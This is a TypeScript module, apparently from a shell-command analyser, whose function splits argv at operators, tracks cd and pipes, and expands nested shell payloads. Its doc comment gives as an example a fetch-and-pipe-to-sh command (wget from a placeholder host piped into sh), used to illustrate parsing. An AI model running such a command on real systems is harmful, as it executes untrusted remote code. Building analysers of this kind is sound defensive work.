/**
 * The entry point of the shell reader: the simple commands a process argv runs, following the
 * payloads it gives to shells.
 */
import { recycle } from "./commands.js";
import { afterCd } from "./paths.js";
import { expandPayload } from "./script.js";
import {
  type CommandSegment,
  exhaust,
  MAX_WORDS,
  type SegmentBudget,
  type SegmentOptions,
  segmentBudget,
} from "./segment.js";

const OPERATOR_WORDS = new Set(["|", "|&", "&&", "||", ";", "&", ";;"]);

/**
 * The simple commands a process argv runs, following shell payloads: for `bash -lc 'cd /tmp; wget
 * http://x/a -O- | sh'` the result is the bash command itself, then `cd /tmp`, `wget … -O-` (piping
 * into) `sh`, with `cwd` "/tmp" from the `cd`. Payloads nest up to {@link MAX_PAYLOAD_DEPTH} levels.
 * The first segment is always the argv itself (split at operators when `splitOperators` is set).
 * Never throws; bounded by the MAX_* limits of this module.
 */
export function commandSegments(argv: readonly string[], options: SegmentOptions = {}): CommandSegment[] {
  const out: CommandSegment[] = [];
  const budget: SegmentBudget = options.budget ?? segmentBudget();
  const words = Array.isArray(argv) ? argv.filter((w): w is string => typeof w === "string") : [];
  const top: CommandSegment[] = [];
  let current: CommandSegment | undefined;
  let pipeFrom: CommandSegment | undefined;
  let cwd = options.cwd;
  const finish = () => {
    if (current === undefined) return;
    cwd = afterCd(current, cwd);
    current = undefined;
  };
  for (const word of words.slice(0, MAX_WORDS)) {
    if (options.splitOperators && OPERATOR_WORDS.has(word)) {
      const seg = current;
      finish();
      pipeFrom = word === "|" || word === "|&" ? seg : undefined;
      // The first command is the argv itself and always stays.
      if (options.keep !== undefined && pipeFrom === undefined && seg !== undefined && seg !== top[0]) {
        recycle(top, seg, budget, options.keep);
      }
      continue;
    }
    if (current === undefined) {
      if (budget.segments <= 0) {
        exhaust(budget, "segments");
        break;
      }
      budget.segments--;
      current = { argv: [], redirects: [], depth: 0, ...(cwd !== undefined ? { cwd } : {}) };
      if (pipeFrom !== undefined) {
        current.pipedFrom = pipeFrom;
        pipeFrom.pipesTo = current;
        pipeFrom = undefined;
      }
      top.push(current);
    }
    if (current.argv.length < MAX_WORDS) current.argv.push(word);
    else exhaust(budget, "words");
  }
  if (words.length > MAX_WORDS) exhaust(budget, "words");
  finish();
  for (const segment of top) {
    out.push(segment);
    expandPayload(segment, out, budget, options.keep);
  }
  return out;
}
